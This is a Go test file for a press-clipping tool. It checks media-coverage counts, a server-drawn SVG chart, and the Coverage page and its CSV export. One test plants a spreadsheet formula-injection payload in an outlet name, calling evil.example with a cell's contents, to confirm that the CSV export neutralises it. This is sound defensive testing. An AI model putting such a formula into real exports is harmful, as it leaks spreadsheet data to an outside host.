package web

import (
	"bytes"
	"strings"
	"testing"
	"time"

	goldenfile "github.com/pressclip/pressclip/internal/golden"
	"github.com/pressclip/pressclip/store"
)

// coverageRows are two watches over a month: a story a day, a spike of
// five on the 20th, one story of both watches, a low-relevance mention
// and a story from before the period.
func coverageRows() ([]store.CoverageRow, time.Time) {
	now := time.Date(2026, 11, 30, 15, 0, 0, 0, time.UTC)
	var rows []store.CoverageRow
	id := int64(0)
	add := func(day int, watch, credit, wire, lang, role string, low bool) {
		id++
		rows = append(rows, store.CoverageRow{StoryID: id, Found: time.Date(2026, 11, day, 9, 0, 0, 0, time.UTC), Title: "Story " + strings.Repeat("x", int(id%3)),
			Credit: credit, Outlet: credit, Wire: wire, Language: lang, Watch: watch, Role: role, LowRelevance: low})
	}
	for d := 1; d <= 30; d++ {
		add(d, "IOM", "Harbour Ledger", "", "en", "source", false)
	}
	for range 5 {
		add(20, "IOM", "AFP", "AFP", "fr", "subject", false)
	}
	add(12, "Missing Migrants", "The Meridian Post", "", "en", "mention", false)
	// One story of both watches counts once.
	rows = append(rows, store.CoverageRow{StoryID: 1, Found: rows[0].Found, Title: rows[0].Title, Credit: "Harbour Ledger", Outlet: "Harbour Ledger",
		Language: "en", Watch: "Missing Migrants", Role: "mention"})
	add(5, "IOM", "Noise Daily", "", "en", "mention", true)
	add(0, "IOM", "Harbour Ledger", "", "en", "source", false) // 31 Oct: before the 30 days
	return rows, now
}

func TestCoverageCounts(t *testing.T) {
	rows, now := coverageRows()
	cv := coverageOf(rows, 30, now, time.UTC)
	if cv.Total != 36 {
		t.Errorf("total %d, want 36 stories (30 + 5 + 1; the low-relevance one and the one before the period out)", cv.Total)
	}
	if len(cv.Spikes) != 1 || cv.Spikes[0].Day != "Fri 20 Nov" || cv.Spikes[0].Count != 6 || len(cv.Spikes[0].Stories) != 5 {
		t.Errorf("spikes %+v, want 20 Nov with 6 stories, five named", cv.Spikes)
	}
	if len(cv.Outlets) != 3 || cv.Outlets[0] != (tally{Name: "Harbour Ledger", Count: 30, Width: 100}) || cv.Outlets[1].Name != "AFP" {
		t.Errorf("outlets %+v", cv.Outlets)
	}
	want := []tally{{"the outlet's own", 31, 100}, {"wire agency copy", 5, 16}}
	if len(cv.Sources) != 2 || cv.Sources[0] != want[0] || cv.Sources[1] != want[1] {
		t.Errorf("sources %+v, want %+v", cv.Sources, want)
	}
	if cv.Langs[0].Name != "en" || cv.Langs[0].Count != 31 || cv.Roles[0].Name != "source" {
		t.Errorf("languages %+v, roles %+v", cv.Langs, cv.Roles)
	}
	var both int
	for _, d := range cv.PerDay {
		if d.Date == "2026-11-01" {
			both += d.Count
		}
	}
	if both != 2 {
		t.Errorf("1 Nov: %d mentions by watch, want 2 (one story, two watches)", both)
	}
}

// The chart is drawn on the server as SVG: reviewed as a golden file.
func TestCoverageChartGolden(t *testing.T) {
	f := newFixture(t, 0, "")
	rows, now := coverageRows()
	cv := coverageOf(rows, 30, now, time.UTC)
	var b bytes.Buffer
	if err := f.h.tmpl.ExecuteTemplate(&b, "coverage-chart", cv.Chart); err != nil {
		t.Fatal(err)
	}
	goldenfile.Check(t, "coverage-chart.svg", b.Bytes())
}

func TestCoveragePage(t *testing.T) {
	f := newFixture(t, 3, "")
	c := f.client(t)
	res := f.get(t, c, "/coverage")
	for _, want := range []string{"<h1>Coverage", `<svg class="chart"`, "3 stories mention", "Top outlets", `href="/coverage?days=90"`, `aria-current="page">Coverage`} {
		if !strings.Contains(res.body, want) {
			t.Errorf("the Coverage page lacks %q", want)
		}
	}
	if res := f.get(t, c, "/coverage?days=7"); res.code != 400 {
		t.Errorf("days=7: %d", res.code)
	}
	// An outlet's name is the web's: a spreadsheet must not run it.
	u := "https://evil.example/1"
	if _, err := f.st.SaveArticle(t.Context(), store.Article{Source: "Evil", Outlet: `=HYPERLINK("https://evil.example/?"&A1)`, URL: u,
		CanonicalURL: u, Title: "IOM story", Text: "The International Organization for Migration (IOM) said so on Monday.",
		PublishedAt: time.Now(), Language: "en", Type: "news", Line: "It reported that IOM said so.",
		Mentions: []store.Mention{{Watch: "International Organization for Migration", Where: "lead", Count: 1, Score: 4, Terms: []string{"IOM"}}}}); err != nil {
		t.Fatal(err)
	}
	res = f.get(t, c, "/coverage.csv?days=90")
	if !strings.Contains(res.body, `outlet,"'=HYPERLINK(""https://evil.example/?""&A1)"`) || strings.Contains(res.body, "\noutlet,\"=") {
		t.Errorf("coverage.csv does not defuse a formula in an outlet's name:\n%s", res.body)
	}
	if res.code != 200 || !strings.HasPrefix(res.body, "\ufeffkind,name,date,stories\n") || !strings.Contains(res.body, "\noutlet,") ||
		!strings.Contains(res.head.Get("Content-Disposition"), "-90d.csv") {
		t.Errorf("coverage.csv: %d %q %s", res.code, res.body, res.head.Get("Content-Disposition"))
	}
}
